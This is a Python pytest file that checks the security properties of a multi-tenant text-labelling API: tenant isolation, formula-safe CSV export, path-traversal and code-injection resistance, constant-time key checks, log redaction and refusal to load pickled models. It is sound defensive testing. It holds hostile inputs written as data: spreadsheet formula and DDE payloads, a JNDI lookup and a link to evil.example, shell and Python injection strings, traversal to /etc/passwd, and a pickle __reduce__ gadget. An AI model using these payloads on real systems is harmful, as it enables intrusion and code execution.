"""Security properties, checked on both stores with a really trained job: tenant isolation on every endpoint,
formula-safe CSV export, uploaded text never evaluated nor used in paths, models loaded only as safetensors
from the service's own data dir, keys compared in constant time and never logged, debug off, random ids."""

from __future__ import annotations

import csv
import io
import pickle
import time
from pathlib import Path

import httpx
import pytest
from fastapi.testclient import TestClient

from app.main import create_app
from sidyp_core.config import Settings, key_digest
from sidyp_core.ids import ID_RE, new_id
from tests.conftest import toy_dataset
from tests.service.conftest import KEY_1, KEY_2, TENANT_KEYS, service_env, start_api, tiny_params

# Class names and texts a spreadsheet would execute, or a careless server would evaluate or use as paths.
HOSTILE_CLASSES = {"sports": "=SUM(A1:A9)", "food": "+food", "tech": "@tech"}
HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example","click")',
    "-2+3+cmd|' /C calc'!A0",
    "__import__('os').system('touch {canary}')",
    "{{{{7*7}}}} ${{jndi:ldap://evil.example/a}} $(touch {canary})",
    "../../../../../../{canary}",
]


class _Canary:
    """Unpickling this would create the canary file: proof that a pickle was loaded."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return (Path.touch, (Path(self.path),))


@pytest.fixture(scope="module", params=["sqlite", "redis"])
def trained(request, tmp_path_factory, tiny_backbone):
    """A succeeded job of tenant t1, trained in-process by the real runner on a hostile dataset."""
    from worker.runner import JobRunner

    root = tmp_path_factory.mktemp(f"security-{request.param}")
    canary = root / "canary"
    extra = {}
    if request.param == "redis":
        import redis

        url = request.getfixturevalue("redis_url").rsplit("/", 1)[0] + "/10"
        redis.Redis.from_url(url).flushdb()
        extra["redis_url"] = url
    settings = Settings(
        data_dir=root / "data",
        api_keys=TENANT_KEYS,
        backbones=f"tiny={tiny_backbone}",
        **extra,
    )
    texts, noisy, _gold, _ = toy_dataset(n_per_class=20)
    texts[: len(HOSTILE_TEXTS)] = [t.format(canary=canary) for t in HOSTILE_TEXTS]
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["text", "noisy_label"])
    w.writerows([t, HOSTILE_CLASSES[y]] for t, y in zip(texts, noisy, strict=True))
    with TestClient(create_app(settings)) as client:
        client.headers["Authorization"] = f"Bearer {KEY_1}"
        r = client.post(
            "/v1/datasets",
            files={"file": ("../../../../etc/passwd", buf.getvalue().encode(), "text/csv")},
            data={"name": f"../../{canary}"},
        )
        assert r.status_code == 201, r.text
        ds = r.json()
        job = client.post("/v1/jobs", json={"dataset_id": ds["id"], "params": tiny_params(tiny_backbone)})
        job_id = job.json()["id"]
        store = client.app.state.store
        if settings.embedded:
            store.claim_next()
        assert JobRunner(settings, store, "w-security").run(job_id) == "succeeded"
        done = client.get(f"/v1/jobs/{job_id}").json()
        yield {
            "client": client,
            "settings": settings,
            "dataset": ds,
            "job": done,
            "texts": texts,
            "canary": canary,
        }


def _problem(r: httpx.Response, status: int) -> dict:
    assert r.status_code == status, (r.request.method, r.request.url, r.status_code, r.text)
    assert r.headers["content-type"] == "application/problem+json"
    return {k: v for k, v in r.json().items() if k != "instance"}


def test_another_tenant_cannot_reach_anything_and_cannot_tell_it_exists(trained):
    c = trained["client"]
    ds, job = trained["dataset"]["id"], trained["job"]["id"]
    model = trained["job"]["model_id"]
    fake = {"ds": new_id("dataset"), "job": new_id("job"), "mdl": new_id("model")}
    other = {"Authorization": f"Bearer {KEY_2}"}
    calls = [
        ("GET", "/v1/datasets/{ds}", None),
        ("DELETE", "/v1/datasets/{ds}", None),
        ("GET", "/v1/jobs/{job}", None),
        ("GET", "/v1/jobs/{job}/events", None),
        ("GET", "/v1/jobs/{job}/labels", None),
        ("GET", "/v1/jobs/{job}/labels?format=csv", None),
        ("GET", "/v1/jobs/{job}/report", None),
        ("POST", "/v1/jobs/{job}/cancel", None),
        ("GET", "/v1/models/{mdl}", None),
        ("POST", "/v1/models/{mdl}/predict", {"texts": ["hello"]}),
        ("DELETE", "/v1/models/{mdl}", None),
    ]
    for method, template, body in calls:
        real = c.request(method, template.format(ds=ds, job=job, mdl=model), json=body, headers=other)
        missing = c.request(method, template.format(**fake), json=body, headers=other)
        # The same answer as for an id that does not exist: no way to learn that the resource is there.
        assert _problem(real, 404) == _problem(missing, 404)
    for field in ("dataset_id", "validation_dataset_id", "eval_dataset_id"):
        payload = {"dataset_id": ds} | {field: ds}
        _problem(c.post("/v1/jobs", json=payload, headers=other), 404)
    for kind, own in (("datasets", ds), ("jobs", job), ("models", model)):
        assert c.get(f"/v1/{kind}", headers=other).json()["data"] == []
        assert c.get(f"/v1/{kind}", params={"after": own}, headers=other).json()["data"] == []
    # The owner still has everything, untouched by the attempts above.
    assert c.get(f"/v1/datasets/{ds}").status_code == 200
    assert c.get(f"/v1/jobs/{job}").json()["status"] == "succeeded"
    assert c.post(f"/v1/models/{model}/predict", json={"texts": ["a"]}).status_code == 200


def test_labels_csv_export_neutralises_formula_cells(trained):
    c = trained["client"]
    r = c.get(f"/v1/jobs/{trained['job']['id']}/labels", params={"format": "csv"})
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.text)))
    header, body = rows[0], rows[1:]
    text_cols = [header.index(n) for n in ("text", "given_label", "suggested_label")]
    cells = [h for h in header] + [row[i] for row in body for i in text_cols]
    assert cells and not [x for x in cells if x[:1] in ("=", "+", "-", "@")]
    # Neutralised by a leading quote only: the data itself is intact.
    assert [row[header.index("text")].removeprefix("'") for row in body] == trained["texts"]
    assert {f"p_{c}" for c in HOSTILE_CLASSES.values()} == {h.removeprefix("'") for h in header[7:]}
    assert "'=SUM(A1:A9)" in [row[header.index("given_label")] for row in body]


def test_uploaded_text_is_data_never_code_nor_a_path(trained):
    data_dir = trained["settings"].data_dir
    assert not trained["canary"].exists()
    ds = trained["dataset"]
    assert ds["name"] == f"../../{trained['canary']}"  # kept verbatim as a name, never as a path
    assert set(ds["labels"]) == set(HOSTILE_CLASSES.values())
    hostile = ("passwd", "canary", "SUM", "food", "tech", "HYPERLINK", "import", "jndi", "7*7", "..")
    for path in data_dir.rglob("*"):
        rel = path.relative_to(data_dir)
        assert rel.parts[0] == "t1" or rel.name.startswith("sidyp.sqlite3"), rel
        assert not [h for h in hostile if h in str(rel)], rel
        if len(rel.parts) >= 3:
            assert ID_RE.fullmatch(rel.parts[2]), rel  # t1/<kind>/<random id>/...


def test_keys_are_compared_in_constant_time_against_every_key(monkeypatch):
    import app.api.deps as deps

    compared: list[bytes] = []
    real = deps.hmac.compare_digest

    def spy(a, b):
        compared.append(b)
        return real(a, b)

    monkeypatch.setattr(deps.hmac, "compare_digest", spy)
    keys = {f"t{i}": f"key-{i}-" + "z" * 30 for i in range(4)}
    settings = Settings(data_dir="/tmp/unused-sidyp", api_keys=",".join(f"{t}:{k}" for t, k in keys.items()))
    app = create_app(settings)
    with TestClient(app) as c:
        for presented, status in ((keys["t0"], 200), ("key-0-" + "z" * 29 + "y", 401), ("x", 401)):
            compared.clear()
            r = c.get("/v1/datasets", headers={"Authorization": f"Bearer {presented}"})
            assert r.status_code == status
            # No early exit: every configured key (held as its SHA-256) is compared, whether the first one
            # matched or none did.
            assert sorted(compared) == sorted(key_digest(k).encode() for k in keys.values())
            assert presented not in r.text


def test_keys_never_appear_in_logs_even_at_debug_level(tmp_path, tiny_backbone):
    env = service_env(tmp_path / "data", tiny_backbone)
    api, base = start_api(env, tmp_path, extra_args=("--no-worker", "--log-level", "debug"))
    wrong = "sk-wrong-" + "q" * 30
    try:
        for key in (KEY_1, KEY_2, wrong):
            h = {"Authorization": f"Bearer {key}"}
            httpx.get(base + "/v1/datasets", headers=h)
            httpx.get(base + "/v1/jobs/nope", headers=h)
            httpx.post(base + "/v1/jobs", headers=h, content=b"{bad")
        time.sleep(0.5)
        log = api.log_path.read_text(errors="replace")
    finally:
        api.stop()
    assert "GET /v1/datasets" in log  # the access log is on at debug level, so the check means something
    for key in (KEY_1, KEY_2, wrong):
        assert key not in log


def test_debug_is_off_by_default_and_errors_never_leak_internals(tmp_path, monkeypatch):
    for name in ("SIDYP_DEBUG",):
        monkeypatch.delenv(name, raising=False)
    settings = Settings(data_dir=tmp_path, api_keys=TENANT_KEYS)
    assert settings.debug is False
    app = create_app(settings)
    assert app.debug is False

    def explode():
        raise RuntimeError("secret internal detail /srv/data/t1")

    app.add_api_route("/boom", explode)
    with TestClient(app, raise_server_exceptions=False) as c:
        r = c.get("/boom")
    assert r.status_code == 500 and r.headers["content-type"] == "application/problem+json"
    assert "secret" not in r.text and "Traceback" not in r.text and "/srv" not in r.text
    assert r.json()["type"] == "/problems/internal-error" and r.json()["error_id"] in r.json()["detail"]
    from sidyp_cli.main import main

    with pytest.raises(SystemExit) as exc:  # there is no auto-reload switch to leave on by mistake
        main(["serve", "--reload"])
    assert exc.value.code == 2


def test_ids_are_random_and_unguessable():
    ids = [new_id("job") for _ in range(5000)]
    assert len(set(ids)) == len(ids) and all(ID_RE.fullmatch(i) for i in ids)
    bodies = [i.removeprefix("job_") for i in ids]
    # Every position takes many values (16 random bytes, url-safe base64): no counter, no timestamp prefix.
    for pos in range(21):  # the last character carries only 2 random bits
        assert len({b[pos] for b in bodies}) > 40, pos
    assert sum(a[:4] == b[:4] for a, b in zip(bodies, bodies[1:], strict=False)) < 5


def test_concurrent_predictions_each_get_their_own_answer_and_blank_texts_are_refused(trained):
    """Predict runs on the API's small inference pool: concurrent requests must not get each other's rows."""
    from concurrent.futures import ThreadPoolExecutor

    c, model = trained["client"], trained["job"]["model_id"]
    batches = [
        [f"{w} match goal {i}" for i in range(n)]
        for n, w in zip(range(1, 17), ["pizza", "code"] * 8, strict=True)
    ]

    def ask(texts):
        r = c.post(f"/v1/models/{model}/predict", json={"texts": texts})
        assert r.status_code == 200, r.text
        return [p["probabilities"] for p in r.json()["predictions"]]

    alone = [ask(b) for b in batches]
    with ThreadPoolExecutor(8) as pool:
        together = list(pool.map(ask, batches))
    assert [len(x) for x in together] == [len(b) for b in batches]
    for a, b in zip(alone, together, strict=True):
        for pa, pb in zip(a, b, strict=True):
            assert pa == pytest.approx(pb, abs=1e-5)
    r = c.post(f"/v1/models/{model}/predict", json={"texts": ["fine", "   "]})
    assert (
        _problem(r, 422)["type"] == "/problems/empty-text"
        and r.json()["errors"][0]["field"] == "body.texts.1"
    )


def test_models_load_only_from_safetensors_never_a_pickle(trained):
    """Swap a model's weights for a pickle whose loading would create a file: predict refuses (410) and the
    pickle is never opened. Restored, the model serves again. (Runs last: it edits the trained model.)"""
    from app.services.models import model_cache

    c, settings = trained["client"], trained["settings"]
    model_id = trained["job"]["model_id"]
    folder = settings.data_dir / "t1" / "models" / model_id
    weights = folder / "model.safetensors"
    canary = trained["canary"].with_name("pickle-canary")
    saved = weights.read_bytes()
    weights.unlink()
    for name in ("pytorch_model.bin", "model.pt", "model.pkl"):
        (folder / name).write_bytes(pickle.dumps(_Canary(str(canary))))
    model_cache.evict("t1", model_id)
    try:
        r = c.post(f"/v1/models/{model_id}/predict", json={"texts": ["hello"]})
        body = _problem(r, 410)
        assert body["type"] == "/problems/model-files-missing" and str(folder) not in r.text
        assert not canary.exists()
    finally:
        weights.write_bytes(saved)
        model_cache.evict("t1", model_id)
    assert c.post(f"/v1/models/{model_id}/predict", json={"texts": ["hello"]}).status_code == 200
    assert not canary.exists()
